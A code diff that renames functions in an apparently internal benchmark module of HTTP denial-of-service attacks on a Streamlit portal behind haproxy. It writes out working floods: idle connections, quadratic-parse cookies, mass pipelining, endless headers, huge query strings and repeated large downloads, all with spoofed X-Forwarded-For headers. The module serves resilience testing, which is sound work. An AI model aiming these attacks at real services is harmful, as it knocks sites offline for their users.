@@ -1,4 +1,4 @@
-"""Attacks over HTTP on a portal; each runs until it is killed or refused."""
+"""Attacks on a portal over HTTP. Each runs until it is killed or refused."""
 
 import selectors
 import socket
@@ -10,19 +10,19 @@ from bench.target import ATTACKER, Target
 from web.streamlit_compat import get_static_folder
 
 _SECONDS_TO_REOPEN = 0.1
-"""All attacks that do so together ask about as often as `deploy/haproxy.cfg` lets one address."""
+"""All attacks together then connect about as often as `deploy/haproxy.cfg` allows one address."""
 
 
-def idle_connections(target: Target) -> None:
+def open_idle_connections(target: Target) -> None:
     """Open connections and send nothing."""
-    held = []
+    connections = []
     with suppress(OSError):
         for _ in range(1000):
-            held.append(target.connect(ATTACKER))
+            connections.append(target.connect(ATTACKER))
     time.sleep(20)
 
 
-def escaped_cookies(target: Target) -> None:
+def send_escaped_cookies(target: Target) -> None:
     """Send cookies that take quadratic time to parse."""
     cookie = 'a="' + '\\"' * 8_000 + '"'
     request = f"GET /_stcore/health HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {ATTACKER}\r\n"
@@ -33,24 +33,24 @@ def escaped_cookies(target: Target) -> None:
                 return
 
 
-def pipelined(target: Target) -> None:
-    """Pipeline 13,000 requests on each of 40 connections and read nothing."""
+def pipeline_requests(target: Target) -> None:
+    """Pipeline 13,000 requests on each of 40 connections and read no responses."""
     request = f"GET /x HTTP/1.1\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n".encode()
-    held = []
+    connections = []
     with suppress(OSError):
         for _ in range(40):
-            held.append(target.connect(ATTACKER))
-            held[-1].settimeout(1)
-            held[-1].sendall(request * 13_000)
+            connections.append(target.connect(ATTACKER))
+            connections[-1].settimeout(1)
+            connections[-1].sendall(request * 13_000)
     time.sleep(1)
 
 
-def files(target: Target) -> None:
-    """Download the largest file of the page on 90 connections, again and again."""
+def download_files(target: Target) -> None:
+    """Download Streamlit's largest file repeatedly on 90 connections."""
     largest = max(
         Path(get_static_folder(), "static", "js").glob("*.js"), key=lambda f: f.stat().st_size
     )
-    asked = (
+    request = (
         f"GET /static/js/{largest.name} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n"
     )
     size = largest.stat().st_size
@@ -58,7 +58,7 @@ def files(target: Target) -> None:
     left: dict[socket.socket, int] = {}
     for _ in range(90):
         connection = target.connect(ATTACKER)
-        connection.sendall(asked.encode())
+        connection.sendall(request.encode())
         selector.register(connection, selectors.EVENT_READ)
         left[connection] = size
     while True:
@@ -68,25 +68,25 @@ def files(target: Target) -> None:
                 return
             left[connection] -= read
             if left[connection] <= 0:
-                connection.sendall(asked.encode())
+                connection.sendall(request.encode())
                 left[connection] += size
 
 
-def requests(target: Target) -> None:
-    """Request routes that need no sign-in on 50 connections, again and again."""
-    asked = [
+def request_public_routes(target: Target) -> None:
+    """Request routes that need no sign-in repeatedly on 50 connections."""
+    requests = [
         f"GET {path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n".encode()
         for path in ("/api/v1/app/me", "/api/openapi.json", "/api/ready", "/_stcore/health")
     ]
     connections = [target.connect(ATTACKER) for _ in range(50)]
     for number in range(1_000_000):
         connection = connections[number % 50]
-        connection.sendall(asked[number % 4])
+        connection.sendall(requests[number % 4])
         if number >= 50 and not connections[(number + 1) % 50].recv(1_000_000):
             return
 
 
-def endless_header(target: Target) -> None:
+def send_endless_header(target: Target) -> None:
     """Send a header that never ends."""
     with target.connect(ATTACKER) as connection:
         connection.sendall(f"GET /x HTTP/1.1\r\nX-Forwarded-For: {ATTACKER}\r\nX: ".encode())
@@ -95,45 +95,45 @@ def endless_header(target: Target) -> None:
             time.sleep(0.02)
 
 
-def long_queries(target: Target) -> None:
+def send_long_queries(target: Target) -> None:
     """Request a page with 8,000 query parameters on 20 connections."""
     query = "%e0=%e0&" * 8_000
-    _ask(target, f"GET /?{query} HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n", 20)
+    _repeat_request(target, f"GET /?{query} HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n", 20)
 
 
-def refusals(target: Target) -> None:
-    """Request more than one address may at once, again and again."""
-    _ask(target, "GET /api/v1/app/me HTTP/1.1\r\nHost: x\r\n", 300)
+def provoke_refusals(target: Target) -> None:
+    """Send more requests at once than one address may, repeatedly."""
+    _repeat_request(target, "GET /api/v1/app/me HTTP/1.1\r\nHost: x\r\n", 300)
 
 
-def pages_for_files(target: Target) -> None:
-    """Request paths that do not exist: Streamlit would answer with its page."""
-    _ask(target, "GET /x.js HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n", 90)
+def request_missing_files(target: Target) -> None:
+    """Request missing paths, for which Streamlit would send its page."""
+    _repeat_request(target, "GET /x.js HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n", 90)
 
 
-def _ask(target: Target, head: str, count: int) -> None:
-    """Repeat a request on ``count`` connections; reopen those that were closed."""
+def _repeat_request(target: Target, head: str, count: int) -> None:
+    """Repeat a request on ``count`` connections; reopen closed ones."""
     request = f"{head}X-Forwarded-For: {ATTACKER}\r\n\r\n".encode()
     with selectors.DefaultSelector() as ready:
 
-        def open_one() -> None:
+        def open_connection() -> None:
             connection = target.connect(ATTACKER)
             ready.register(connection, selectors.EVENT_READ)
             connection.sendall(request)
 
         for _ in range(count):
-            open_one()
+            open_connection()
         while True:
             for key, _ in ready.select():
                 assert isinstance(key.fileobj, socket.socket)
                 try:
-                    answer = key.fileobj.recv(1_000_000)
-                    if b"HTTP/1.1 " in answer:
+                    response = key.fileobj.recv(1_000_000)
+                    if b"HTTP/1.1 " in response:
                         key.fileobj.sendall(request)
                 except OSError:
-                    answer = b""
-                if not answer:
+                    response = b""
+                if not response:
                     ready.unregister(key.fileobj)
                     key.fileobj.close()
                     time.sleep(_SECONDS_TO_REOPEN)
-                    open_one()
+                    open_connection()
